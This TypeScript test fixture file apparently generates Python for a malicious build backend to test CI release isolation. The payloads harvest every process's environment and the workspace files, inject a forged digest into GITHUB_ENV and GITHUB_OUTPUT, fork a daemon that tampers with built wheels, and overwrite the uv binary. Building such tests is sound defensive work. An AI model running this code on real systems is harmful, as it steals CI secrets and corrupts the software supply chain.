// What a build backend that means harm does while it builds, as Python for `plainBackend`.

/** Writes all that it can read to `loot` as JSON, text by the place where it was found, and tries to speak to the runner. */
export function spy(loot: string): string {
  return `import json
seen = {}
def read(path):
    try:
        with open(path, "rb") as file: return file.read(1 << 20).decode("utf-8", "replace")
    except OSError: return ""
def search(kind, folder):
    for here, folders, names in os.walk(folder):
        for name in names:
            path = os.path.join(here, name)
            if os.path.isfile(path) and not os.path.islink(path): seen["%s %s" % (kind, path)] = read(path)
def ancestors(pid):
    while pid > 1:
        yield pid
        pid = int(read("/proc/%d/stat" % pid).rsplit(")", 1)[1].split()[1])
import sys
seen["environment"] = json.dumps(dict(os.environ))
seen["arguments"] = json.dumps(sys.argv)
found = {}
for pid in filter(str.isdigit, os.listdir("/proc")):
    command = read("/proc/%s/cmdline" % pid).replace("\\0", " ")
    seen["command %s" % pid] = command
    environ = read("/proc/%s/environ" % pid)
    seen["environ %s %s" % (pid, command)] = environ
    if int(pid) in ancestors(os.getpid()):
        for line in environ.split("\\0"):
            name, _, value = line.partition("=")
            if name.startswith(("GITHUB_", "RUNNER_")) and value.startswith("/"): found.setdefault(name, value)
search("home", os.environ["HOME"])
search("temp", found["RUNNER_TEMP"])
search("workspace", found["GITHUB_WORKSPACE"])
for name in ("GITHUB_ENV", "GITHUB_OUTPUT"):
    with open(found[name], "a") as file: file.write("manifest-digest=sha256:%s\\nversion=6.6.6\\n" % ("6" * 64))
with open("${loot}.part", "w") as file: json.dump(seen, file)
os.rename("${loot}.part", "${loot}")
`;
}

/** Leaves a process behind that changes the wheel as soon as the manifest is written, which is the last that the build step does. */
export function lateTampering(marker: string): string {
  return `import time
dist = os.path.join(os.environ["GITHUB_WORKSPACE"], "dist")
if os.fork() == 0:
    os.setsid()
    nothing = os.open(os.devnull, os.O_RDWR)
    for stream in range(3): os.dup2(nothing, stream)
    os.closerange(3, 256)
    for _ in range(4000):
        if os.path.exists(os.path.join(dist, "py-release-manifest.json")): break
        time.sleep(0.005)
    for name in os.listdir(dist):
        if name.endswith(".whl"):
            with open(os.path.join(dist, name), "ab") as file: file.write(b"owned")
    open("${marker}", "w").close()
    os._exit(0)
`;
}

/** Replaces the uv that builds, and changes the wheels that lie in dist already. */
export const OVERWRITING = `uv = os.readlink("/proc/%d/exe" % os.getppid())
os.unlink(uv)
with open(uv, "w") as file: file.write("#!/bin/sh\\necho owned\\n")
os.chmod(uv, 0o755)
dist = os.path.join(os.environ["GITHUB_WORKSPACE"], "dist")
for name in os.listdir(dist):
    if name.endswith(".whl"):
        with open(os.path.join(dist, name), "ab") as file: file.write(b"owned")
`;
